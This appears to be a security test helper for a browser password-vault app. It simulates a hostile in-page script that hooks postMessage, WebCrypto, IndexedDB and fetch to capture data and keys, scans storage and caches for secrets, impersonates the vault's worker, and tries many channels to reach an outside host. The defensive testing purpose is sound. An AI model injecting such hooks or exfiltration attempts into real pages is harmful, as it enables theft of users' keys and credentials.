/** What a hostile script in the page collects and can reach; it runs before the first line of the app. */
interface Intruder {
  /** Everything that crossed a port, WebCrypto, the network or IndexedDB in this page. */
  seen: unknown[];
  /** The vault's own worker, caught as the app introduced itself to it. */
  worker?: { postMessage(message: unknown, transfer: Transferable[]): void };
  scope: string;
}

declare global {
  var intruder: Intruder;
}

/** Given to `addInitScript`: hooks whatever a script of the page can hook. */
export function intrude(options: { withoutSharedWorker: boolean }): void {
  if (options.withoutSharedWorker) Reflect.deleteProperty(globalThis, 'SharedWorker');
  // The empty page between two loads has neither WebCrypto nor an app.
  if (!isSecureContext) return;
  const intruder: Intruder = { seen: [], scope: '/' };
  globalThis.intruder = intruder;

  function hook(target: object, name: string): void {
    const original = Reflect.get(target, name);
    if (typeof original !== 'function') return;
    Reflect.set(target, name, function (this: Intruder['worker'], ...args: unknown[]) {
      intruder.seen.push(name, ...args);
      const [message] = args;
      if (typeof message === 'object' && message !== null && 'tab' in message && 'scope' in message) {
        intruder.worker = this;
        intruder.scope = String(message.scope);
      }
      const result: unknown = Reflect.apply(original, this, args);
      if (result instanceof Promise) result.then(value => intruder.seen.push(value)).catch(() => {});
      return result;
    });
  }
  for (const target of [MessagePort, Worker, BroadcastChannel]) hook(target.prototype, 'postMessage');
  for (const name of [
    'encrypt',
    'decrypt',
    'wrapKey',
    'unwrapKey',
    'importKey',
    'exportKey',
    'deriveBits',
    'deriveKey',
  ]) {
    hook(SubtleCrypto.prototype, name);
  }
  for (const name of ['put', 'add']) hook(IDBObjectStore.prototype, name);
  hook(globalThis, 'fetch');

  // Whatever any listener of the page reads, it reads through this getter.
  const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data');
  if (!data) return;
  Object.defineProperty(MessageEvent.prototype, 'data', {
    ...data,
    get() {
      const value: unknown = data.get?.call(this);
      intruder.seen.push(value);
      return value;
    },
  });
}

/** Runs in the page: whether `text` is anywhere that a script can look, with where it was found. */
export async function lookFor(texts: string[]): Promise<string[]> {
  const found: string[] = [];
  const looked = new Set<unknown>();

  function look(place: string, value: unknown): void {
    if (typeof value === 'string') {
      for (const text of texts) if (value.includes(text)) found.push(`${place}: ${text}`);
      return;
    }
    if (typeof value !== 'object' || value === null || looked.has(value)) return;
    looked.add(value);
    if (value instanceof CryptoKey) found.push(`${place}: a CryptoKey`);
    if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) {
      look(place, new TextDecoder('latin1').decode(value));
      return;
    }
    const entries =
      value instanceof Map || value instanceof Set ? Array.from(value as Iterable<unknown>) : Object.values(value);
    for (const each of [...entries, ...Object.keys(value)]) look(place, each);
  }

  look('what crossed', globalThis.intruder.seen);
  look('localStorage', Object.entries(localStorage));
  look('sessionStorage', Object.entries(sessionStorage));
  look('the document', document.documentElement.outerHTML);
  for (const field of document.querySelectorAll('input, textarea'))
    look('a field', 'value' in field ? field.value : '');
  for (const { name = '' } of await indexedDB.databases()) {
    const database = await new Promise<IDBDatabase>((resolve, reject) => {
      const request = indexedDB.open(name);
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(new Error(`cannot open ${name}`));
    });
    for (const store of database.objectStoreNames) {
      const rows = await new Promise<unknown>((resolve, reject) => {
        const request = database.transaction(store).objectStore(store).getAll();
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(new Error(`cannot read ${store}`));
      });
      look(`${name} ${store}`, rows);
    }
    database.close();
  }
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) look(`cache ${request.url}`, await (await cache.match(request))?.text());
  }
  return [...new Set(found)];
}

/** One call at the vault's page or engine port. */
export interface IntruderCall {
  side: 'page' | 'engine';
  verb: string;
  args: unknown[];
}

/** Runs in the page: calls the vault on ports of the intruder's own; the code of each error, or the first value. */
export async function callAsIntruder(calls: IntruderCall[]): Promise<unknown[]> {
  const { worker, scope } = globalThis.intruder;
  if (!worker) throw new Error('no worker was caught');
  const tab = `intruder-${crypto.randomUUID()}`;
  await new Promise<void>(resolve => {
    void navigator.locks.request(tab, () => {
      resolve();
      return new Promise(() => {});
    });
  });
  const page = new MessageChannel();
  const engine = new MessageChannel();
  worker.postMessage({ scope, tab, page: page.port2, engine: engine.port2 }, [page.port2, engine.port2]);
  const ports = { page: page.port1, engine: engine.port1 };
  const answers: unknown[] = [];
  for (const [id, { side, verb, args }] of calls.entries()) {
    const answer = new Promise(resolve => {
      ports[side].onmessage = ({ data }) => {
        if (data.id === id) resolve(data.kind === 'error' ? data.error.code : data.value);
      };
    });
    ports[side].postMessage({ kind: 'call', id, verb, args });
    answers.push(await answer);
  }
  return answers;
}

/** Runs in the page: every ordinary way out of a page, to a host that is not its own. */
export async function tryToLeave(host: string): Promise<void> {
  const attempts: (() => unknown)[] = [
    () => fetch(`https://${host}/fetch`, { mode: 'no-cors' }),
    () => navigator.sendBeacon(`https://${host}/beacon`, 'x'),
    () => new WebSocket(`wss://${host}/socket`),
    () => new EventSource(`https://${host}/events`),
    () => {
      new Image().src = `https://${host}/image`;
    },
    () => {
      const request = new XMLHttpRequest();
      request.open('POST', `https://${host}/xhr`);
      request.send('x');
    },
    () => {
      const link = document.createElement('link');
      link.rel = 'prefetch';
      link.href = `https://${host}/prefetch`;
      document.head.append(link);
    },
    () => {
      const frame = document.createElement('iframe');
      frame.src = `https://${host}/frame`;
      document.body.append(frame);
    },
    () => {
      const form = document.createElement('form');
      form.action = `https://${host}/form`;
      form.method = 'post';
      form.target = '_blank';
      document.body.append(form);
      form.submit();
    },
    () => new Worker(URL.createObjectURL(new Blob([`fetch('https://${host}/worker')`]))),
  ];
  await Promise.allSettled(attempts.map(async attempt => attempt()));
  await new Promise(resolve => setTimeout(resolve, 1_000));
}
